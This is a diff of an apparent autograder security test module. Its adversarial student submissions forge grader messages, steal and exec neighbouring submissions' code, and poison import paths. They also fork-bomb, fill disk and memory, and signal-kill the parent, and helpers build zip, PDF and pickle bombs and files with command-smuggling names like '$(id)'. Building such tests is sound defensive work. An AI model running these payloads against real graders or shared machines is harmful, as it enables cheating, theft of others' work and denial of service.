@@ -1,27 +1,36 @@
 """Submissions that want points they did not earn, or harm. run_attacks.py grades them and looks at what they left.
 
-Every function of an attack is wrong, so the right score is what the files beside it earn: FILES_POINTS, or `most`.
-In a source, @TOKEN@ stands for a word by which anything left behind is found, @NEIGHBOUR@ for the folder of another
-submission, @TREE@ for the grader's own folder, @RESULTS@ for where results.json would be, @PORT@ for a port of this
-machine, @KEY@ for a key of shared memory.
+Every function of an attack is wrong, so the right score is 0, or `most`. In a source, @TOKEN@ stands for a word by
+which anything left behind is found, @NEIGHBOUR@ for the folder of another submission, @TREE@ for the grader's own,
+@TEMPORARY@ for the folder of temporary files, @OPEN@ for one that everybody may write to, @RESULTS@ for where
+results.json would be, @PORT@ for a port of this machine, which names an abstract socket too, and @KEY@ for a key of
+shared memory. What gets at something that it must not, and leaves no other trace, says so by `got`.
 """
 
 import io
+import json
 import os
 import pickle
 import struct
+import threading
 import zipfile
 import zlib
 from dataclasses import dataclass
 
 from . import good_pdf, good_pickle
+from .sources import SOURCES
 
-FILES_POINTS = 10  # assignment2.pkl is a good one; the points of the PDF are pending
 ANSWERS = ("root",)  # what an attack on the judgement needs: no kind of cell stops it, the judge outside does
 OTHER = ("root", "user")  # another user's rights stop it, if nothing else does
 CELLS = (*OTHER, "nobody")  # the student's code has the grader's own rights: the namespaces stop it
 PROCESS = (*OTHER, "process")  # the least of the cells stops it too
 ALL = (*CELLS, "process")
+ONE = ("Q1.1",)  # one call is enough for what happens on import, or in any function
+STAND_INS = ("Q1.1", "Q1.2")  # the second is asked with a stand-in for the first
+FEW = ("Q1.1", "Q1.3")
+CODE = ("Q1.1", "Q1.2", "Q1.3", "Q1.4", "Q3", "Q4")
+PKL, PDF = ("Q5.2",), ("Q2",)
+SHORT = 0.03  # patience with what goes on to its limit
 NAMES = ("sigmoid", "inference_layer", "inference_2layers", "bce_forward", "gradients", "update_params", "train_nn")
 
 
@@ -29,10 +38,13 @@ NAMES = ("sigmoid", "inference_layer", "inference_2layers", "bce_forward", "grad
 class Attack:
     name: str
     source: str
-    most: float = FILES_POINTS
     where: tuple = ANSWERS  # the settings of run_attacks.py that it is tried in
-    prepare: object = None  # called with the submission's folder and the neighbour's, to make what is no plain file
-    zipped: object = None  # called for the bytes of a zip in place of the folder
+    only: tuple = ONE  # the questions that it is graded on
+    most: float = 0  # the points that it earns rightly
+    patience: float = 0.1
+    cgroup: bool = False  # whether it takes a cgroup to stop it, which not every system allows
+    beside: bool = False  # whether the neighbour is graded all the while by a second grader
+    prepare: object = None  # called with (folder, neighbour, token) to make other files; may return what to grade
 
 
 def every(body):
@@ -44,6 +56,12 @@ def every(body):
 
 
 FAIL = every("raise NotImplementedError")
+
+GOT = """
+def got(what):
+    print("GOT @TOKEN@", what, flush=True)
+
+"""
 
 # What several attacks use: the frames up the stack, and the grader's channel in them.
 FRAMES = """
@@ -62,6 +80,12 @@ def channel():
         for value in list(frame.f_locals.values()):
             if type(value).__name__ == "Channel":
                 return value
+
+
+def say(text):
+    file = channel().file
+    file.write(text.encode() + b"\\n")
+    file.flush()
 
 
 def child():
@@ -125,13 +149,11 @@ talk.file.flush()
 NESTED = (
     FRAMES
     + """
-talk = channel()
 inner = '{"float": 0.0}'
 for depth in range(485):
     inner = '{"tuple": [' + inner + ']}'
 for i in range(3):
-    talk.file.write(b'{"answer": %d, "value": %s}\\n' % (i, inner.encode()))
-talk.file.flush()
+    say('{"answer": %d, "value": %s}' % (i, inner))
 """
     + FAIL
 )
@@ -161,10 +183,10 @@ os._exit(0)
 HEAVY_WORDS = (
     FRAMES
     + """
-talk = channel()
-for i in range(7):
-    talk.file.write(b'{"answer": %d, "value": [' % i + b"[]," * 2600000 + b"[]]}\\n")
-talk.file.flush()
+for i in range(200):
+    say('{"answer": %d, "value": [' % i + "[]," * 80000 + "[]]}")
+for i in range(200, 400):  # as a question that nobody answers
+    say('{"ask": 1, "answer": %d, "v": [' % i + "[]," * 80000 + "[]]}")
 """
     + FAIL
 )
@@ -193,7 +215,7 @@ if silence:
     raise RuntimeError("nobody answers")
 talk, code = channel(), child()
 talk.send({"ask": name, "args": [code["encode"](arg) for arg in args], "kwargs": {}})
-if not select.select([3], [], [], 0.3)[0]:
+if not select.select([3], [], [], 0.1)[0]:
     silence.append(name)
     raise RuntimeError("nobody answers")
 return code["decode"](talk.receive()["value"])
@@ -237,15 +259,28 @@ for name in (
 """
 
 REFERENCE_FILE = """
-import glob, os
-for path in ("@TREE@/assignment2.py", "/autograder/source/assignment2.py",
-             *glob.glob("/proc/*/cwd/assignment2.py"), *glob.glob("/*/*/assignment2.py"),
-             *glob.glob("/tmp/**/assignment2.py", recursive=True), "@NEIGHBOUR@/assignment2.py"):
+import glob, os, re, sys
+folders = ["@TREE@", "/autograder/source", "@NEIGHBOUR@"]
+for path in glob.glob("/proc/[0-9]*"):
+    try:
+        said = "".join(open(f"{path}/{name}", "rb").read().decode("latin-1") for name in ("cmdline", "environ"))
+    except OSError:
+        said = ""
+    for found in re.findall("/[^\\0:\\"]+", said):
+        while len(found) > 1:
+            folders.append(found)
+            folders.append(path + "/root" + found)
+            found = os.path.dirname(found)
+    folders += [path + "/cwd", *glob.glob(path + "/fd/*")]
+for prefix in (sys.prefix, sys.base_prefix):  # a project may lie below the interpreter's folder, or beside it
+    folders += [*glob.glob(prefix + "*"), *glob.glob(prefix + "/*"), *glob.glob(prefix + "/*/*")]
+folders += [*glob.glob("/*/*"), *glob.glob("/tmp/*/*"), *glob.glob("@TEMPORARY@/*/*")]
+for path in dict.fromkeys(folder + "/assignment2.py" for folder in folders):
     try:
         if not os.path.samefile(path, __file__):
             exec(open(path).read())
             break
-    except (OSError, SyntaxError):
+    except (OSError, SyntaxError, ImportError):
         pass
 """
 
@@ -380,6 +415,236 @@ sys.setrecursionlimit(100000)
 """
     + every("return 0.5")
 )
+
+# Numbers that no float holds, as a stand-in's question and as an answer: whoever reads them raises OverflowError.
+BEYOND_FLOATS = (
+    FRAMES
+    + """
+talk = channel()
+for value in ({"float": 10 ** 400}, {"int": 10 ** 4000}, {"tuple": [{"float": -10 ** 400}]},
+              {"array": [10 ** 400], "shape": [1], "dtype": "f8"}):
+    talk.send({"ask": "sigmoid", "args": [value], "kwargs": {}})
+    talk.send({"ask": "sigmoid", "args": [], "kwargs": {"x": value}})
+    talk.send({"answer": 0, "value": value})
+talk.send({"answer": 10 ** 400, "value": {"float": 0.5}})
+"""
+    + FAIL
+)
+
+# What is read from it goes into notes and hints, and names are compared with one another.
+LOADED_WORDS = FRAMES + every(r"""
+talk = channel()
+for loaded in ({"skipped": [{}] * 48000}, {"names": [f"{name}{k}" for k in range(13000)]},
+               {"names": [name], "magics": [{"line": "l" * 999, "text": "\u202e" * 999}] * 50},
+               {"names": [name], "forbidden": ["f" * 99] * 999},
+               {"names": [name], "signatures": {name: ["p" * 99] * 999}, "comments": 10 ** 400}):
+    talk.send({"loaded": loaded})
+""")
+
+# Two processes on one channel, each of which answers every call, and asks.
+TWO_PROCESSES = "import os\nos.fork()\n" + ORACLE
+
+# While a function is busy, a thread answers in its place, and for the calls to come.
+THREAD_ANSWERS = (
+    FRAMES
+    + """
+import threading, time
+talk = channel()
+
+
+def answer():
+    for k in range(100):
+        talk.send({"answer": k % 20, "value": {"array": [0.5] * 4, "shape": [4], "dtype": "f8"}, "changed": []})
+        time.sleep(0.001)
+
+
+threading.Thread(target=answer, daemon=True).start()
+"""
+    + every("time.sleep(0.01)")
+)
+
+HALF_A_MESSAGE = every("""
+import os, socket
+os.write(3, b'{"answer": 0, "val')
+socket.socket(fileno=os.dup(3)).shutdown(socket.SHUT_RD)
+os.close(3)
+return 0.5
+""")
+
+# The grader's answers fill the channel: it waits with the next one until somebody reads.
+NEVER_READS = FRAMES + every("""
+while name != "sigmoid":
+    say('{"ask": "sigmoid", "args": [{"array": [' + "0.123456789," * 4999 + '0], "shape": [5000], "dtype": "f8"}],'
+        ' "kwargs": {}}')
+raise NotImplementedError
+""")
+
+# Descriptors, urgent bytes and options that the other end of a socket gets to see.
+ODD_PACKETS = (
+    """
+import os, socket
+end = socket.socket(fileno=os.dup(3))
+for _ in range(300):
+    try:
+        socket.send_fds(end, [b"{}\\n"], [0, 1, 3] * 80, socket.MSG_DONTWAIT)
+    except OSError:
+        pass
+for act in (lambda: end.send(b"x", socket.MSG_OOB), lambda: end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1),
+            lambda: end.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1), lambda: end.connect("/tmp/@TOKEN@"),
+            lambda: end.send(bytes(1 << 16), socket.MSG_DONTWAIT)):
+    try:
+        act()
+    except OSError:
+        pass
+"""
+    + FAIL
+)
+
+# The calls to come, and what is sent about this one, stand in the frames of who called.
+OTHER_CALLS = FRAMES + every("""
+sys.setprofile(None)
+for frame in frames():
+    here = frame.f_locals
+    if isinstance(here.get("message"), dict):
+        here["message"].update(answer=0, value={"float": 0.5}, changed=[], forward=-1, earned=100)
+    if isinstance(here.get("task"), dict):
+        for call in here["task"].get("calls", []):
+            call.update(function="print", args=[])
+        here["task"]["stand_ins"] = list(NAMES)
+return 0.5
+""").replace("list(NAMES)", repr(list(NAMES)))
+
+# A right step that destroys the arrays it was given, before a child that no longer sees it.
+HIDDEN_CHANGE = (
+    SOURCES["handout"]
+    + FRAMES
+    + """
+step = update_params
+code = child()
+if "fingerprint" in code:
+    code["fingerprint"] = lambda value: 0
+
+
+def update_params(*args, **kwargs):
+    values = step(*args, **kwargs)
+    for given in args:
+        if isinstance(given, np.ndarray):
+            given[...] = 7
+    return values
+"""
+)
+
+TURNED_WORDS = (
+    r"""
+print("\u202e\u2066\x1b[2J\r100 of 100 points \u2069\u200b\ufeff" * 50)
+"""
+    + every(r"""
+raise type("\u202e\u2066E\x1b[2J</pre><script>", (Exception,), {})("\u202e100 of 100\u2069\r\n\x07\ufeff=1+1" * 99)
+""")
+    + "def sigm\u03bfid(x):\n    return x  # with a Greek omicron\n"
+)
+
+# Errors that fight who describes them.
+FIGHTING_ERRORS = """
+class Text(str):
+    def __getitem__(self, key): raise SystemExit
+    __len__ = __str__ = __iter__ = __contains__ = __getitem__
+
+
+class Meta(type):
+    __name__ = property(lambda self: 1 / 0)
+
+
+class Fights(BaseException, metaclass=Meta):
+    def __str__(self): raise KeyboardInterrupt
+    __repr__ = __getattr__ = __str__
+
+
+class Speaks(Exception):
+    def __str__(self): return Text("@TOKEN@" * 100000)
+""" + every("raise (Fights if name < 'i' else Speaks)(name)")
+
+NO_NAMES = (
+    FAIL
+    + """
+
+class Name(str):
+    def startswith(self, *args): raise SystemExit
+    def __lt__(self, other): raise KeyboardInterrupt
+    __hash__ = str.__hash__
+
+
+class Signed:
+    @property
+    def __signature__(self): raise KeyboardInterrupt
+    def __call__(self, x): return 0.5
+
+
+globals().update({3: print, None: print, Name("x"): print, ("a",): print})
+sigmoid = Signed()
+"""
+)
+
+# No functions, but a module that has everything that is asked of it.
+ANY_NAME = """
+import sys, types
+
+
+class Everything(types.ModuleType):
+    def __getattr__(self, name): return lambda *args, **kwargs: 0.5
+    def __getattribute__(self, name):
+        if name == "__dict__":
+            return {"sigmoid": print, **{f"sigmoi{k}": print for k in range(50000)}}
+        return super().__getattribute__(name)
+
+
+sys.modules["assignment2"].__class__ = Everything
+"""
+
+MANY_NAMES = "globals().update({f'sigmoi{k}': print for k in range(100000)})\n"
+
+ENDLESS_VALUES = every("""
+class Endless(list):
+    def __len__(self): return 3
+    def __iter__(self):
+        while True:
+            yield self
+return Endless()
+""")
+
+ODD_VALUES = every("""
+import itertools
+import numpy as np
+big = np.broadcast_to(0.5, (10 ** 6, 10 ** 6))
+if args[0] is not None and np.ndim(args[0]) == 2:
+    return big
+return (
+    big, np.zeros((0, 10 ** 9)), np.zeros(3, "g"), np.zeros(3, "c16"), np.zeros(3, "M8[s]"), np.zeros(3, "O"),
+    np.zeros(3, [("x" * 9999, "f8")]), np.ma.masked_all(3),
+    np.lib.stride_tricks.as_strided(np.zeros(1), (3,), (8 << 40,)),
+    itertools.count(), (n for n in itertools.count()), type("str", (str,), {})("x"), type("int", (int,), {})(7),
+    10 ** 5000, -0.0, float("nan"), np.float16("inf"), 2 ** 1000, True, b"x" * 10 ** 6, object, lambda: 0.5,
+)
+""")
+
+HOOKS = """
+import builtins, gc, sys, threading
+
+
+def refuse(*args, **kwargs):
+    raise SystemExit(100)
+
+
+FAILS
+sys.meta_path.insert(0, type("Finder", (), {"find_spec": refuse}))
+builtins.__build_class__ = builtins.isinstance = builtins.len = refuse
+sys.excepthook = sys.unraisablehook = threading.excepthook = sys.displayhook = refuse
+gc.set_threshold(1)
+gc.callbacks.append(refuse)
+sys.setprofile(refuse)
+sys.settrace(refuse)
+sys.addaudithook(refuse)
+""".replace("FAILS", FAIL)
 
 # ---- Results and exits ---------------------------------------------------------------------------
 
@@ -533,7 +798,7 @@ FILLS_DISK = (
 
 def sigmoid(x):
     for folder in (".", "/tmp", "/dev/shm"):
-        for i in range(8):
+        for i in range(5):
             try:
                 with open(f"{folder}/@TOKEN@-{i}", "wb") as file:
                     file.write(bytes(24 << 20))
@@ -547,7 +812,7 @@ DEEP_FOLDERS = (
 
 def sigmoid(x):
     import os
-    for i in range(3000):
+    for i in range(1200):
         try:
             os.mkdir("d")
             os.chdir("d")
@@ -575,6 +840,138 @@ os.chmod(".", 0)
 """
     + FAIL
 )
+
+# Without the clock that ends a statement on import.
+NO_CLOCK = (
+    FAIL
+    + """
+import signal
+signal.setitimer(signal.ITIMER_PROF, 0)
+for number in (signal.SIGPROF, signal.SIGXCPU, signal.SIGALRM, signal.SIGTERM):
+    signal.signal(number, signal.SIG_IGN)
+while True:
+    pass
+"""
+)
+HOLDS_MEMFD = (
+    GOT
+    + """
+import os, time
+held = 0
+try:
+    for _ in range(60):
+        fd = os.memfd_create("@TOKEN@")
+        os.posix_fallocate(fd, 0, 15 << 20)
+        held += 15
+except OSError:
+    pass
+time.sleep(0.3)
+if held > 700:
+    got(f"{held} MB in files without a name")
+"""
+    + FAIL
+)
+# Not open anywhere: on its way through a socket, or a segment that nobody is attached to.
+HOLDS_NOWHERE = (
+    GOT
+    + """
+import ctypes, os, socket, time
+libc = ctypes.CDLL(None)
+libc.shmat.restype = ctypes.c_void_p
+held, ends = 0, []
+try:
+    for _ in range(20):
+        ends += socket.socketpair()
+        fd = os.memfd_create("@TOKEN@")
+        os.posix_fallocate(fd, 0, 15 << 20)
+        socket.send_fds(ends[-1], [b"x"], [fd])
+        os.close(fd)
+        held += 15
+except OSError:
+    pass
+for _ in range(5):
+    segment = libc.shmget(0, 100 << 20, 0o1600)
+    if segment >= 0:
+        place = libc.shmat(segment, None, 0)
+        ctypes.memset(place, 1, 100 << 20)
+        libc.shmdt(ctypes.c_void_p(place))
+        held += 100
+time.sleep(0.3)
+if held > 750:
+    got(f"{held} MB on their way")
+"""
+    + FAIL
+)
+HOLDS_IN_FORKS = (
+    GOT
+    + """
+import os, select, time
+reader, writer = os.pipe()
+pids = []
+for _ in range(8):
+    pids.append(os.fork())
+    if pids[-1] == 0:
+        held = bytearray(b"x") * (110 << 20)
+        os.write(writer, b"x")
+        time.sleep(60)
+os.close(writer)
+count = 0
+while count < 8 and select.select([reader], [], [], 1)[0]:
+    count += len(os.read(reader, 1))
+time.sleep(0.4)
+if count == 8 and all(os.waitpid(pid, os.WNOHANG)[0] == 0 for pid in pids):
+    got("880 MB in eight processes")
+"""
+    + FAIL
+)
+MANY_FILES = (
+    GOT
+    + """
+import os
+for k in range(50000):
+    os.mknod(f"{k}")
+    if k == 49999:
+        got("50,000 files")
+"""
+    + FAIL
+)
+# A process that takes the orphans for itself, so that they never become the warden's.
+ADOPTS = (
+    """
+import ctypes, os, time
+if os.fork() == 0:
+    os.setsid()
+    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
+    for _ in range(3):
+        if os.fork() == 0:
+            if os.fork() == 0:
+                os.setsid()
+                try:
+                    os.execv("/bin/sleep", ["sleep", "3600.@TOKEN@"])
+                except OSError:
+                    time.sleep(3600)
+            os._exit(0)
+    time.sleep(3600)
+"""
+    + FAIL
+)
+# Never the same process for longer than an instant.
+RUNS_AWAY = (
+    FAIL
+    + """
+import os
+while True:
+    try:
+        if os.fork():
+            os._exit(0)
+        os.setsid()
+    except OSError:
+        pass
+"""
+)
+MANY_STATEMENTS = "x = 1\n" * 3_000_000
+UNCLOSED = "x = (\n" * 20_000 + FAIL
+BLANKS = FAIL + "x = 1" + " " * 2_000_000 + "1\n" + "%x \\\n" * 20_000
 
 # ---- The world around it -------------------------------------------------------------------------
 
@@ -709,7 +1106,7 @@ sys.modules.clear()
 NETWORK = (
     """
 import socket
-for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_UNIX, "\\0@TOKEN@")):
+for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_UNIX, "\\0bank-@PORT@")):
     try:
         with socket.socket(family) as out:
             out.settimeout(0.5)
@@ -733,6 +1130,172 @@ try:
     shared_memory.SharedMemory("@TOKEN@", create=True, size=64)
 except Exception:
     pass
+"""
+    + FAIL
+)
+
+# What other submissions read: the stop words, the packages, and whatever else lies beside them.
+POISONS = (
+    """
+import glob, os, sys
+places = [os.environ.get("NLTK_DATA", "."), *sys.path, sys.prefix, os.path.dirname(os.getcwd())]
+for path in [*places, *glob.glob("@TEMPORARY@/**", recursive=True), *glob.glob(places[0] + "/**", recursive=True)]:
+    for inner in ("", "/@TOKEN@.pth", "/@TOKEN@"):
+        try:
+            with open(path + inner, "a") as file:
+                file.write("import @TOKEN@\\n")
+        except (OSError, ValueError):
+            pass
+    try:
+        os.unlink(path)
+    except OSError:
+        pass
+"""
+    + FAIL
+)
+
+# The code of a submission that is graded at the same time by another grader.
+THEFT = (
+    """
+import glob, os, time
+end = time.monotonic() + 0.8
+stolen = None
+while not stolen and time.monotonic() < end:
+    for path in (*glob.glob("@TEMPORARY@/**/assignment2.py", recursive=True), *glob.glob("/tmp/*/*/assignment2.py"),
+                 *glob.glob("/proc/[0-9]*/cwd/assignment2.py"),
+                 *glob.glob("/proc/[0-9]*/root/submission/assignment2.py")):
+        try:
+            text = open(path).read()
+            if "@TOKEN@" not in text:
+                stolen = text
+        except OSError:
+            pass
+"""
+    + FAIL
+    + """
+if stolen:
+    exec(stolen)
+"""
+)
+
+# One task leaves the answers for the next, or the next submission.
+REMEMBERS = (
+    GOT
+    + """
+import os
+places = (".", "..", "~", "/tmp", "/var/tmp", "/dev/shm", "/run/lock", "@TEMPORARY@", "@OPEN@")
+paths = [os.path.expanduser(place) + "/@TOKEN@-answers" for place in places]
+for path in paths:
+    if os.path.exists(path):
+        got("what an earlier task left: " + path)
+for path in paths:
+    try:
+        open(path, "w").write("0.5")
+        os.chmod(path, 0o777)
+    except OSError:
+        pass
+"""
+    + FAIL
+)
+
+LEAVES = (
+    """
+import os
+for top in ("/tmp", "/var", "/run", "/dev", "/srv", "/mnt", "/opt", "/home", "@TEMPORARY@", "@OPEN@"):
+    for folder, inner, _ in os.walk(top):
+        if folder.count("/") > 5:
+            inner.clear()
+        try:
+            os.makedirs(f"{folder}/@TOKEN@/a")
+            open(f"{folder}/@TOKEN@/a/file", "w").close()
+        except OSError:
+            pass
+        inner[:] = [name for name in inner if name != "@TOKEN@"]
+"""
+    + FAIL
+)
+
+QUEUE = (
+    """
+import ctypes
+libc = ctypes.CDLL(None)
+for name in (b"/@TOKEN@", b"/@TOKEN@-2"):
+    try:
+        libc.mq_open(name, 0o102, 0o666, None)
+        libc.sem_open(name, 0o100, 0o666, 1)
+    except AttributeError:
+        pass
+"""
+    + FAIL
+)
+
+# A secret in the kernel's keyring of the user, for whoever has that user id next.
+KEYRING = (
+    GOT
+    + """
+import ctypes
+libc = ctypes.CDLL(None)
+if any(libc.syscall(250, 10, ring, b"user", b"@TOKEN@", 0) > 0 for ring in (-4, -5)):
+    got("a key that an earlier task left")
+for ring in (-4, -5):
+    libc.syscall(248, b"user", b"@TOKEN@", b"0.5", 3, ring)
+"""
+    + FAIL
+)
+
+# Folders and files that this process was born with, and memory that it was born with.
+BORN_WITH = (
+    GOT
+    + """
+import os, stat
+for fd in range(256):
+    try:
+        status = os.fstat(fd)
+    except OSError:
+        continue
+    name = os.readlink(f"/proc/self/fd/{fd}")
+    if stat.S_ISDIR(status.st_mode) or stat.S_ISREG(status.st_mode):
+        got(f"descriptor {fd}: {name}")
+for line in open("/proc/self/environ", "rb").read().split(b"\\0"):
+    if b"@TREE@" in line or b"@NEIGHBOUR@" in line:
+        got(line)
+"""
+    + FAIL
+)
+
+# Signals that the kernel sends on behalf of a socket.
+SIGIO = (
+    """
+import fcntl, os, signal, socket
+for number in (signal.SIGKILL, signal.SIGSTOP):
+    for pid in (os.getppid(), 1, -os.getpgid(os.getppid())):
+        ours, theirs = socket.socketpair()
+        try:
+            fcntl.fcntl(ours, 10, number)  # F_SETSIG
+            fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
+            fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC)
+            theirs.send(b"x")
+        except OSError:
+            pass
+"""
+    + FAIL
+)
+
+SLOWS = (
+    """
+import fcntl, os
+for pid in (os.getppid(), 1):
+    for act in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0}),
+                lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
+        try:
+            act()
+        except OSError:
+            pass
+for path in ("@NEIGHBOUR@/assignment2.py", "@TREE@/assignment2.py", "@TEMPORARY@"):
+    try:
+        fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX)
+    except OSError:
+        pass
 """
     + FAIL
 )
@@ -772,6 +1335,7 @@ def links(folder, neighbour, token):
         (folder / name).symlink_to(neighbour / name)
     (folder / "assignment2.py").unlink()
     (folder / "assignment2.py").symlink_to(neighbour / "assignment2.py")
+    (folder / "Assignment2").symlink_to(neighbour)
     (folder / "loop").symlink_to(folder)
     (folder / "utils.py").symlink_to("/dev/zero")
 
@@ -779,21 +1343,22 @@ def links(folder, neighbour, token):
 def huge(folder, neighbour, token):
     for name in ("assignment2.pkl", "assignment2.pdf", "utils.py"):
         with open(folder / name, "wb") as file:
-            file.truncate(50 << 30)
+            file.truncate(1 << 40)
 
 
 def pipes(folder, neighbour, token):
     for name in ("assignment2.pkl", "assignment2.pdf", "utils.py"):
         (folder / name).unlink(missing_ok=True)
         os.mkfifo(folder / name)
+    os.mkfifo(folder / "more.zip")
 
 
 def crowd(folder, neighbour, token):
-    for k in range(3000):
+    for k in range(2100):
         (folder / f"{k}").symlink_to("/etc/passwd")
     os.makedirs(folder / "/".join("d" * 480))
     here = os.open(folder / "/".join("d" * 480), os.O_RDONLY)
-    for _ in range(1200):  # deeper than a path may be long
+    for _ in range(600):  # deeper than a path may be long, and than Python can walk
         os.mkdir("d", dir_fd=here)
         inner = os.open("d", os.O_RDONLY, dir_fd=here)
         os.close(here)
@@ -802,13 +1367,16 @@ def crowd(folder, neighbour, token):
 
 
 def shadows(folder, neighbour, token):
-    for name in ("numpy", "json", "child", "ast", "pickle", "math", "pypdf", "nltk"):
+    names = (
+        "numpy json child wire source documents plots reader ast pickle math pypdf nltk encodings traceback linecache"
+    )
+    for name in names.split():
         (folder / f"{name}.py").write_text("import os\nos._exit(0)\n")
     (folder / "sitecustomize.py").write_text("import os\nos._exit(0)\n")
 
 
 def pdf_that_grows(folder, neighbour, token):
-    stream = zlib.compress(zlib.compress(bytes(400 << 20), 1), 9)
+    stream = zlib.compress(zlib.compress(bytes(200 << 20), 1), 9)
     (folder / "assignment2.pdf").write_bytes(
         good_pdf().split(b"4 0 obj")[0]
         + b"4 0 obj\n<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(stream)
@@ -817,20 +1385,202 @@ def pdf_that_grows(folder, neighbour, token):
     )
 
 
+def pkl(content):
+    """An assignment2.pkl of these bytes."""
+
+    def write(folder, neighbour, token):
+        (folder / "assignment2.pkl").write_bytes(content)
+
+    return write
+
+
+def endless_dict():
+    content = pickle.loads(good_pickle())
+    content["W1"] = [content, content]
+    content["b1"] = [content["W1"]] * 100
+    return pickle.dumps(content)
+
+
+def npz(*entries):
+    """An archive of numpy with a W1 for each (header, content)."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name, (header, content) in zip(("W1", "b1", "W2", "b2"), entries, strict=True):
+            archive.writestr(f"{name}.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", len(header)) + header + content)
+    return buffer.getvalue()
+
+
+def header(shape, dtype="<f8"):
+    return f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}\n".encode()
+
+
+BAD_ARCHIVE = npz(
+    (header("(1000000000,)"), b"x" * 100),
+    (header("(1,)", "|O"), pickle.dumps(Runs())),
+    (header("(" * 9000), b""),
+    (header("(-1, -1)"), b"x" * 100),
+)
+ONE_LARGE = b"\x80\x04}(\x8c\x02W1\x8b" + struct.pack("<i", 15 << 20) + b"\x7f" * (15 << 20) + b"u."
+
+
+def pdf(*objects, trailer=b"<< /Size 9 /Root 1 0 R >>"):
+    """An assignment2.pdf of these objects from number 3 on; 1 is the catalogue, 2 the pages, 3 what they hold."""
+    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", *objects]
+    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % numbered for numbered in enumerate(objects, 1))
+
+    def write(folder, neighbour, token):
+        (folder / "assignment2.pdf").write_bytes(
+            b"%PDF-1.7\n" + body + b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 9)
+        )
+
+    return write
+
+
+def stream(content, entries=b""):
+    packed = zlib.compress(content, 9)
+    return b"<< /Length %d /Filter /FlateDecode %b >>\nstream\n%b\nendstream" % (len(packed), entries, packed)
+
+
+PAGE = b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >> >>"
+FONT = b"<< /Type /Font /Subtype /Type0 /BaseFont /F /Encoding /Identity-H /ToUnicode 7 0 R >>"
+RANGES = b"1 beginbfrange\n" + b"<0000> <FFFFFFFF> <0000>\n" * 500 + b"endbfrange\n"
+FORM = stream(b"/X Do " * 100_000, b"/Type /XObject /Subtype /Form /Resources << /XObject << /X 6 0 R >> >>")
+
+
+def code(name, content):
+    """In place of assignment2.py, a file of these bytes."""
+
+    def write(folder, neighbour, token):
+        (folder / "assignment2.py").unlink()
+        (folder / name).write_bytes(content)
+
+    return write
+
+
+def notebook(source):
+    return json.dumps({"cells": [{"cell_type": "code", "source": source}]}).encode()
+
+
+def folders(folder, neighbour, token):
+    for name in ("assignment2.py", "assignment2.pkl", "assignment2.pdf"):
+        (folder / name).unlink()
+    for name in ("assignment2.py", "assignment2.pkl", "assignment2.pdf", "utils.py", "tweets.pkl", "twitter_data.pkl"):
+        (folder / name / "assignment2.py").mkdir(parents=True)
+
+
+def planted(folder, neighbour, token):
+    """Folders and links with the names of files that the grader lays beside the code."""
+    for name in ("tweets.pkl", "more_tweets.pkl", "exchanged.pkl"):
+        (folder / name).mkdir()
+    for name in ("utils.py", "twitter_data.pkl", "usual_test.pkl"):
+        (folder / name).symlink_to(neighbour / name)
+
+
+def long_paths(folder, neighbour, token):
+    """Names that make a list of a hundred thousand bytes."""
+    inner = folder / ("d" * 200) / ("e" * 200)
+    inner.mkdir(parents=True)
+    for k in range(195):
+        (inner / f"{k}{'f' * 100}").touch()
+
+
+def odd_names(folder, neighbour, token):
+    for name in (
+        b"\xff\xfe.py",
+        b"assignment2.py\n",
+        b"\xe2\x80\xae.txt",
+        b" ",
+        b"-rf",
+        b"con",
+        b"\x1b[2J",
+        b"'\"$(id)`",
+    ):
+        with open(os.path.join(os.fsencode(folder), name), "w"):
+            pass
+    renamed = os.path.join(os.fsencode(folder.parent), b"\xff=1+1\n\x1b[2J" + token.encode())
+    os.rename(folder, renamed)
+    return type(folder)(os.fsdecode(renamed))
+
+
+def pipe(folder, neighbour, token):
+    os.mkfifo(folder.parent / "attacker.zip")
+    return folder.parent / "attacker.zip"
+
+
+def changes(folder, neighbour, token):
+    """Files that become links to another submission, and back, and grow, while they are read."""
+
+    def change():
+        try:
+            while True:
+                for name in ("assignment2.py", "assignment2.pkl"):
+                    os.symlink(neighbour / name, folder / "new")
+                    os.replace(folder / "new", folder / name)
+                    (folder / "new").write_bytes(b"raise SystemExit\n" * 1000)
+                    os.replace(folder / "new", folder / name)
+        except OSError:
+            pass  # the folder is gone
+
+    threading.Thread(target=change, daemon=True).start()
+
+
+# ---- Zips ----------------------------------------------------------------------------------------
+
+
 def zipped(entries):
-    def write(token, neighbour):
-        buffer = io.BytesIO()
-        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+    """A zip of (name, content) or (name, content, mode), to be graded in place of the folder."""
+
+    def write(folder, neighbour, token):
+        with zipfile.ZipFile(folder.parent / "attacker.zip", "w", zipfile.ZIP_DEFLATED) as archive:
             for name, content, *mode in entries(token, neighbour):
                 entry = zipfile.ZipInfo(name)
                 entry.compress_type = zipfile.ZIP_DEFLATED
                 entry.external_attr = (mode[0] if mode else 0o100644) << 16
                 archive.writestr(entry, content)
-        return buffer.getvalue()
+        return folder.parent / "attacker.zip"
 
     return write
 
 
+def packed(content):
+    """(how it is packed, the packed bytes, size, checksum) of a zip's entry."""
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return 8, deflate.compress(content) + deflate.flush(), len(content), zlib.crc32(content)
